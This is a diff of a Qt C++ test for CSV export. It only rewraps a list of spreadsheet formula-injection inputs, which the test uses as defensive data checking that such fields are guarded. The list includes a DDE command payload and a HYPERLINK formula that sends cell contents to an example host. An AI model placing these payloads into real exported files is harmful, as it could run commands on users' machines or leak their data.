@@ -40,8 +40,8 @@ void CsvTest::fields_survive_quoting() {
 
 void CsvTest::formulas_are_guarded_data() {
     QTest::addColumn<QByteArray>("field");
-    for (const char* field : {"=cmd|' /C calc'!A0", "+1+cmd|x", "-1+1", "-x", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1",
-                              "=HYPERLINK(\"http://example.org/?\"&A1)", "-1;2"})
+    for (const char* field : {"=cmd|' /C calc'!A0", "+1+cmd|x", "-1+1", "-x", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
+                              "＝1+1", "=HYPERLINK(\"http://example.org/?\"&A1)", "-1;2"})
         QTest::addRow("%s", QByteArray(field).toPercentEncoding().constData()) << QByteArray(field);
 }
 
